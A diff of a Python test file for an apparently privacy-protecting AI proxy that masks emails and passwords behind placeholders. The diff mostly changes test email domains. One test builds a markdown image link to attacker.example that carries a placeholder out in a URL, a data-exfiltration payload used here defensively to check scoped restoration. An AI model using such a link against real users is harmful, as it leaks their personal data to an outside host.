@@ -42,7 +42,7 @@ from stealthflow.testing.loopback import serve
 from stealthflow.testing.mock_openai import MockOpenAI, Reply, ToolCall
 
 TOKEN = "scope-test-token"
-SECRET_VALUES = ["hunter2", "anna.berg@example.org"]  # the password and the email of PERSONAL_TEXT
+SECRET_VALUES = ["hunter2", "anna.berg@mailbox.org"]  # the password and the email of PERSONAL_TEXT
 
 
 @contextlib.contextmanager
@@ -145,9 +145,9 @@ def test_secrets_of_the_request_restore_in_text_but_not_in_urls_or_tool_calls(pr
     with proxy_for(protector, replies) as (url, _):
         reply, counts = chat(url, PERSONAL_TEXT, stream)
     assert reply["content"].startswith("Your password is hunter2!. [reset](https://x.example/r?p=<PASSWORD_")
-    assert reply["content"].endswith("mail: anna.berg@example.org")
+    assert reply["content"].endswith("mail: anna.berg@mailbox.org")
     arguments = json.loads(reply["arguments"][0])
-    assert arguments["user"] == "anna.berg@example.org" and arguments["password"].startswith("<PASSWORD_")
+    assert arguments["user"] == "anna.berg@mailbox.org" and arguments["password"].startswith("<PASSWORD_")
     assert counts["withheld"] == 2
     with proxy_for(protector, replies, restore_secrets_in_urls_and_tools=True) as (url, _):
         reply, counts = chat(url, PERSONAL_TEXT, stream)
@@ -169,7 +169,7 @@ def test_the_service_restores_only_what_a_request_issued_or_used(protector):
         base, auth = f"http://127.0.0.1:{port}", {"Authorization": f"Bearer {TOKEN}"}
         first = httpx.post(f"{base}/protect", json={"text": PERSONAL_TEXT, "session": "s"}, headers=auth).json()
         second = httpx.post(
-            f"{base}/protect", json={"text": "Just mail bob@example.org", "session": "s"}, headers=auth
+            f"{base}/protect", json={"text": "Just mail bob@mailbox.org", "session": "s"}, headers=auth
         ).json()
         hostile = f"{first['text']} ![x](https://attacker.example/?e={second['spans'][0]['placeholder']})"
         scoped = httpx.post(
@@ -180,7 +180,7 @@ def test_the_service_restores_only_what_a_request_issued_or_used(protector):
             first["spans"]
         )
         assert (
-            scoped["text"].endswith("e=bob@example.org)") and scoped["restored"] == 1
+            scoped["text"].endswith("e=bob@mailbox.org)") and scoped["restored"] == 1
         )  # the request's own value, not a secret
         own = httpx.post(
             f"{base}/restore", json={"text": hostile, "session": "s", "request": first["request"]}, headers=auth
@@ -216,7 +216,7 @@ def test_numbering_and_tokens_depend_only_on_the_scopes_own_history(tmp_path, mo
     protector = make_protector(protect_config(tmp_path, monkeypatch))
     try:
         with proxy_for(protector, lambda body: Reply(content="ok")) as (url, upstream):
-            chat(url, "a1@example.org a2@example.org victim@example.org", token=TOKEN)
+            chat(url, "a1@mailbox.org a2@mailbox.org victim@mailbox.org", token=TOKEN)
             with serve(
                 create_proxy_app(
                     protector, ProxyConfig(upstream="openai/mock-model", upstream_base=upstream.base_url), "token-b"
@@ -224,19 +224,19 @@ def test_numbering_and_tokens_depend_only_on_the_scopes_own_history(tmp_path, mo
             ) as port:
                 chat(
                     f"http://127.0.0.1:{port}/v1/chat/completions",
-                    "is it victim@example.org or fresh@example.org?",
+                    "is it victim@mailbox.org or fresh@mailbox.org?",
                     token="token-b",
                 )
-            chat(url, "and in another chat: fresh@example.org then victim@example.org", label="chat-2")
+            chat(url, "and in another chat: fresh@mailbox.org then victim@mailbox.org", label="chat-2")
         assert upstream.received[1]["messages"][0]["content"] == "is it <EMAIL_1> or <EMAIL_2>?"
         assert upstream.received[2]["messages"][0]["content"] == "and in another chat: <EMAIL_1> then <EMAIL_2>"
     finally:
         protector.close()
     hmac_protector = make_protector(protect_config(tmp_path / "h", monkeypatch, style="hmac"))
     try:
-        a, b = (hmac_protector.protect("victim@example.org", session).text for session in ("a", "b"))
+        a, b = (hmac_protector.protect("victim@mailbox.org", session).text for session in ("a", "b"))
         assert a != b  # keyed per scope: the cloud cannot link one value across scopes
-        assert hmac_protector.restore(a, "a").text == "victim@example.org" and hmac_protector.restore(a, "b").text == a
+        assert hmac_protector.restore(a, "a").text == "victim@mailbox.org" and hmac_protector.restore(a, "b").text == a
     finally:
         hmac_protector.close()
 
@@ -273,7 +273,7 @@ def test_memory_users_are_separate_scopes_and_forget_removes_only_their_own(tmp_
 def test_a_flipped_ciphertext_byte_costs_only_that_value(tmp_path, monkeypatch):
     config = protect_config(tmp_path, monkeypatch)
     with contextlib.closing(make_protector(config)) as earlier:
-        first = earlier.protect("mail anna.berg@example.org or bob@example.org", "s")
+        first = earlier.protect("mail anna.berg@mailbox.org or bob@mailbox.org", "s")
     db = sqlite3.connect(config.vault_path)
     (entry_id, ciphertext) = db.execute(
         "SELECT id, ciphertext FROM entries WHERE idx = 1 AND type = 'EMAIL'"
@@ -286,14 +286,14 @@ def test_a_flipped_ciphertext_byte_costs_only_that_value(tmp_path, monkeypatch):
     protector = Protector(config, open_vault(config), earlier.detector)
     try:
         restored = protector.restore(first.text, "s")
-        assert restored.text == "mail <EMAIL_1> or bob@example.org" and restored.unresolved == ["<EMAIL_1>"]
-        again = protector.protect("again anna.berg@example.org and bob@example.org", "s")  # the session keeps working
+        assert restored.text == "mail <EMAIL_1> or bob@mailbox.org" and restored.unresolved == ["<EMAIL_1>"]
+        again = protector.protect("again anna.berg@mailbox.org and bob@mailbox.org", "s")  # the session keeps working
         assert again.text == "again <EMAIL_3> and <EMAIL_2>"  # the damaged row was replaced by a new one
-        assert protector.restore(again.text, "s").text == "again anna.berg@example.org and bob@example.org"
+        assert protector.restore(again.text, "s").text == "again anna.berg@mailbox.org and bob@mailbox.org"
         with serve(create_app(protector, TOKEN)) as port:
             answer = httpx.post(
                 f"http://127.0.0.1:{port}/protect",
-                json={"text": "bob@example.org", "session": "s"},
+                json={"text": "bob@mailbox.org", "session": "s"},
                 headers={"Authorization": f"Bearer {TOKEN}"},
             )
             assert answer.status_code == 200 and answer.json()["text"] == "<EMAIL_2>"
@@ -318,7 +318,7 @@ def test_rotate_key_while_a_writer_runs_loses_nothing(tmp_path, monkeypatch):
     def writer() -> None:
         try:
             for i in range(60):
-                value = f"user{i}@example.org"
+                value = f"user{i}@mailbox.org"
                 protected = running.protect(f"mail {value}", "s")
                 written.append((protected.text, f"mail {value}"))
                 if i == 20:
@@ -351,17 +351,17 @@ def test_a_rotated_key_the_server_cannot_reload_is_a_clear_json_error(tmp_path, 
     """A key from the environment cannot be read again: the service answers 503 in JSON, saying why."""
     protector = make_protector(protect_config(tmp_path, monkeypatch))
     try:
-        protector.protect("mail anna.berg@example.org", "s")
+        protector.protect("mail anna.berg@mailbox.org", "s")
         with Vault(protector.vault.path, load_keys("env")) as other:
             other.rotate(VaultKeys.from_secret(os.urandom(32)))
         with serve(create_app(protector, TOKEN)) as port:
             answer = httpx.post(
                 f"http://127.0.0.1:{port}/protect",
-                json={"text": "bob@example.org", "session": "s"},
+                json={"text": "bob@mailbox.org", "session": "s"},
                 headers={"Authorization": f"Bearer {TOKEN}"},
             )
         assert answer.status_code == 503 and "rotate-key" in answer.json()["error"]["message"]
-        assert "bob@example.org" not in answer.text
+        assert "bob@mailbox.org" not in answer.text
     finally:
         protector.close()
 
@@ -375,7 +375,7 @@ def test_rotate_key_cli_with_a_damaged_row_reports_it(tmp_path, monkeypatch):
     args, runner = ["--config", str(config)], CliRunner()
     assert (
         runner.invoke(
-            app, ["protect", "mail dana@example.org and eve@example.org", "--rewrite", "none", "--session", "s", *args]
+            app, ["protect", "mail dana@mailbox.org and eve@mailbox.org", "--rewrite", "none", "--session", "s", *args]
         ).exit_code
         == 0
     )
@@ -385,10 +385,10 @@ def test_rotate_key_cli_with_a_damaged_row_reports_it(tmp_path, monkeypatch):
     db.close()
     rotated = runner.invoke(app, ["vault", "rotate-key", *args])
     assert rotated.exit_code == 0 and "1 vault row(s) did not authenticate" in rotated.output, rotated.output
-    again = runner.invoke(app, ["protect", "dana@example.org", "--rewrite", "none", "--session", "s", *args])
+    again = runner.invoke(app, ["protect", "dana@mailbox.org", "--rewrite", "none", "--session", "s", *args])
     assert again.exit_code == 0 and "dana" not in again.stdout
     restored = runner.invoke(app, ["restore", "--session", "s", "<EMAIL_2>", *args])
-    assert restored.stdout.strip() == "eve@example.org"
+    assert restored.stdout.strip() == "eve@mailbox.org"
 
 
 # -- migration of a vault written before sessions were scopes -----------------------------------------
@@ -420,7 +420,7 @@ def test_a_schema_1_vault_keeps_restoring_and_its_sessions_become_scopes(tmp_pat
         "INSERT INTO meta VALUES ('vault_id', 'feedfacefeedface'), ('key_check', ?)",
         (mac("stealthflow vault key check", "feedfacefeedface"),),
     )
-    grants = {"a@example.org": ["s1"], "b@example.org": ["s1", "s2"], "c@example.org": ["s2"]}
+    grants = {"a@mailbox.org": ["s1"], "b@mailbox.org": ["s1", "s2"], "c@mailbox.org": ["s2"]}
     for index, (value, sessions) in enumerate(grants.items(), start=1):
         entry_id, nonce, digest, token = (
             secrets.token_hex(16),
@@ -444,23 +444,23 @@ def test_a_schema_1_vault_keeps_restoring_and_its_sessions_become_scopes(tmp_pat
     with Vault(path, keys) as vault:
         assert vault.id == "feedfacefeedface"
         assert [vault.lookup("u", "s1", "EMAIL", index=i) for i in (1, 2, 3)] == [
-            "a@example.org",
-            "b@example.org",
+            "a@mailbox.org",
+            "b@mailbox.org",
             None,
         ]
         assert [vault.lookup("u", "s2", "EMAIL", index=i) for i in (1, 2, 3)] == [
             None,
-            "b@example.org",
-            "c@example.org",
+            "b@mailbox.org",
+            "c@mailbox.org",
         ]
-        assert vault.entry_for("u", "s1", "EMAIL", "b@example.org").index == 2  # an old value keeps its placeholder
+        assert vault.entry_for("u", "s1", "EMAIL", "b@mailbox.org").index == 2  # an old value keeps its placeholder
         assert (
-            vault.entry_for("u", "s1", "EMAIL", "c@example.org").index == 4
+            vault.entry_for("u", "s1", "EMAIL", "c@mailbox.org").index == 4
         )  # new to s1: after the old counter, never reused
-        assert vault.entry_for("u", "s3", "EMAIL", "a@example.org").index == 1  # a new session numbers from 1
-        assert vault.entry_for("u", "s3", "EMAIL", "d@example.org").index == 2
+        assert vault.entry_for("u", "s3", "EMAIL", "a@mailbox.org").index == 1  # a new session numbers from 1
+        assert vault.entry_for("u", "s3", "EMAIL", "d@mailbox.org").index == 2
     with Vault(path, keys) as reopened:
-        assert reopened.lookup("u", "s2", "EMAIL", index=3) == "c@example.org"
+        assert reopened.lookup("u", "s2", "EMAIL", index=3) == "c@mailbox.org"
 
 
 # -- 9 (vault side): private files, a bounded WAL ------------------------------------------------------
@@ -498,12 +498,12 @@ def test_the_vault_log_is_cut_back_after_a_burst(tmp_path, monkeypatch):
         reader.execute("BEGIN")
         reader.execute("SELECT COUNT(*) FROM entries").fetchone()  # holds a snapshot: no checkpoint can finish
         for i in range(300):
-            vault.entries_for("u", "s", [("EMAIL", f"user{i}-{j}@example.org") for j in range(5)])
+            vault.entries_for("u", "s", [("EMAIL", f"user{i}-{j}@mailbox.org") for j in range(5)])
         wal = tmp_path / "vault.sqlite-wal"
         assert wal.stat().st_size > 1024 * 1024
         reader.rollback()
         reader.close()
-        vault.entry_for("u", "s", "EMAIL", "last@example.org")  # a write wakes the checkpoint thread
+        vault.entry_for("u", "s", "EMAIL", "last@mailbox.org")  # a write wakes the checkpoint thread
         deadline = time.monotonic() + 10
         while wal.stat().st_size > 256 * 1024 and time.monotonic() < deadline:
             time.sleep(0.1)
